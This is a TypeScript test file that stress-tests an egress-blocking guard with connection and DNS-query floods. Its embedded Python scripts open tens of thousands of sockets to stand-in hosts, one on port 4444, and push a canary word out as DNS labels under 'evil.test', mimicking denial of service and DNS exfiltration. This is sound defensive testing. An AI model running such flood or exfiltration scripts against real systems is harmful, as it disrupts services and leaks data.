/** Row 86: floods. Others are still served, memory stays bounded, the log is whole or counts its losses. */
import { readFileSync } from "node:fs"
import { join } from "node:path"
import t, { type Test } from "tap"
import type { Event } from "../../events/event.ts"
import { canary, labFor, readEvents, whyNoLab } from "./harness.ts"
import { descendants, machineState, runDirectories, settled, sleep } from "./started.ts"
import { commandLine, startGuarded, type Started } from "./started.ts"

t.setTimeout(300_000)
const skip = whyNoLab() ?? false

/** Each flood ends after this time, whatever it has reached: machines differ. */
const floodSeconds = 20
const connections = 50_000
const names = 100_000
/** Resident memory of one of our processes: Node's own is about 60 MiB. */
const residentKibMax = 400 * 1024

/** Opens connections as fast as it can and holds as many of them as it may. */
const connecting = `
import errno, select, socket, sys, time, resource
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
wanted, word, end = int(sys.argv[1]), sys.argv[2].encode(), time.time() + float(sys.argv[3])
held, made, failed, turn = {}, 0, 0, 0
poll = select.epoll()
targets = [("198.51.100.66", 4444), ("198.51.100.10", 80), ("198.51.100.66", 443), ("198.51.100.77", 25)]
while made < wanted and time.time() < end:
    for _ in range(64):
        s = socket.socket(); s.setblocking(False)
        try: s.connect(targets[turn % len(targets)])
        except BlockingIOError: pass
        except OSError: failed += 1; s.close(); continue
        turn += 1; made += 1
        held[s.fileno()] = s; poll.register(s.fileno(), select.EPOLLOUT | select.EPOLLONESHOT)
    for fd, _ in poll.poll(0):
        try: held[fd].send(word)
        except OSError: pass
    while len(held) > 4000: held.pop(next(iter(held))).close()
print("made", made, "failed", failed, flush=True)
`

/** Asks for names that differ, without waiting for an answer. */
const asking = `
import socket, struct, sys, time
wanted, word, end = int(sys.argv[1]), sys.argv[2].encode(), time.time() + float(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("203.0.113.66", 53)); s.setblocking(False)
made = answered = 0
while made < wanted and time.time() < end:
    label = b"%s-%d" % (word, made)
    question = struct.pack(">HHHHHH", made & 65535, 256, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\\4evil\\4test\\0" + struct.pack(">HH", 1, 1)
    try: s.send(question); made += 1
    except OSError: pass
    if made % 32 == 0: time.sleep(0.001)
    try:
        while True: s.recv(999); answered += 1
    except OSError: pass
print("made", made, "answered", answered, flush=True)
`

/** One after the other, what is allowed; prints how long each took in milliseconds. */
const serving = `
import socket, sys, time
end = time.time() + float(sys.argv[1])
while time.time() < end:
    began = time.time()
    try:
        with socket.create_connection(("allowed.test", 80), 10) as s:
            s.settimeout(10)
            s.sendall(b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")
            print("ok" if b"200" in s.recv(999) else "no", int((time.time() - began) * 1000), flush=True)
    except OSError as error: print("no", int((time.time() - began) * 1000), error, flush=True)
    time.sleep(0.2)
`

const quote = (text: string): string => `'${text.replaceAll("'", `'"'"'`)}'`

/** Kibibytes; 0 for a process that has gone. */
function residentKib(pid: number): number {
  try {
    return Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, "utf8"))?.[1] ?? 0)
  } catch {
    return 0
  }
}

/** The most that each of our processes held, by role, until the run has ended. */
async function peaks(run: Started): Promise<Map<string, number>> {
  const most = new Map<string, number>()
  while (run.child.exitCode === null && run.child.signalCode === null) {
    const ours = descendants(run.pid).filter((pid) =>
      commandLine(pid).join(" ").includes("gate.js"),
    )
    for (const pid of [run.pid, ...ours]) {
      const key = pid === run.pid ? "guard" : `${commandLine(pid).at(-2)} ${pid}`
      most.set(key, Math.max(most.get(key) ?? 0, residentKib(pid)))
    }
    await sleep(200)
  }
  return most
}

/** The log has no gap, or says how much it lost. */
function isWhole(t: Test, events: readonly Event[]): void {
  const gap = events.findIndex((event, index) => event.seq !== index + 1)
  t.equal(gap, -1, "no gap in the log")
  t.match(events.at(-1), { kind: "run-ended", lost: Number })
  const last = events.at(-1)
  t.comment(`events ${events.length}, lost ${last?.kind === "run-ended" ? last.lost : "?"}`)
}

t.test("floods", { skip, timeout: 280_000 }, async (t) => {
  const lab = await labFor(t, {})
  await settled(lab)
  const policy = `mode: block\nallow: ["allowed.test:80"]\n`

  for (const [what, script, wanted] of [
    ["connections", connecting, connections],
    ["names", asking, names],
  ] as const) {
    await t.test(`row 86: a flood of ${what}`, async (t) => {
      const free = canary()
      await lab.run(["python3", "-c", script, "40", free, "2"])
      t.ok((await lab.seen(free)).length > 0, "arrives without a firewall")

      const before = machineState(lab)
      const word = canary()
      const flood = ["python3", "-c", script, String(wanted), word, String(floodSeconds)]
      const job = `python3 -c ${quote(serving)} ${floodSeconds + 3} & ${flood.map(quote).join(" ")}; wait`
      const run = startGuarded(lab, { policy, options: ["--workers", "2", "--quiet"] }, [
        "sh",
        "-c",
        job,
      ])
      const most = await peaks(run)
      t.equal(await run.end, 0, run.stderr())
      t.comment(run.stdout().match(/^made.*/m)?.[0] ?? "", JSON.stringify(Object.fromEntries(most)))
      for (const [role, kib] of most) t.ok(kib < residentKibMax, `${role}: ${kib} KiB`)
      const served = run.stdout().match(/^ok \d+/gm) ?? []
      const refused = run.stdout().match(/^no .*/gm) ?? []
      const slowest = Math.max(...served.map((line) => Number(line.slice(3))))
      t.comment(`served ${served.length}, slowest ${slowest} ms; not ${refused.length}`)
      t.ok(served.length >= 5, "others are served")
      t.ok(refused.length <= served.length / 4, refused.slice(0, 5).join("; "))
      t.strictSame(await lab.seen(word), [], "the canary never left")
      isWhole(t, readEvents(run.eventsFile))
      t.notOk(
        run.events().some(({ kind }) => kind === "finding"),
        "nothing of ours died",
      )
      t.equal(machineState(lab), before, "the machine is as it was")
      t.strictSame(runDirectories(run.pid), [], "no directory is left")
    })
  }

  await t.test("row 86: descriptors of ours that run out", async (t) => {
    const word = canary()
    const script = join(lab.directory, "few.sh")
    const job = `python3 -c ${quote(connecting)} 4000 ${word} 6; python3 -c ${quote(serving)} 3`
    const argv = lab.guarded(
      ["--policy", await policyFile(policy), "--events", `${script}.jsonl`],
      ["sh", "-c", job],
    )
    const { stdout, status } = await lab.run(["prlimit", "--nofile=256:4096", ...argv], {
      timeoutMs: 40_000,
    })
    t.equal(status, 0)
    t.match(stdout, /^ok \d+/m, "others are served afterwards")
    t.strictSame(await lab.seen(word), [], "the canary never left")
    isWhole(t, readEvents(`${script}.jsonl`))
  })

  async function policyFile(text: string): Promise<string> {
    const { writeFile } = await import("node:fs/promises")
    const path = join(lab.directory, "flood.yml")
    await writeFile(path, text)
    return path
  }
})
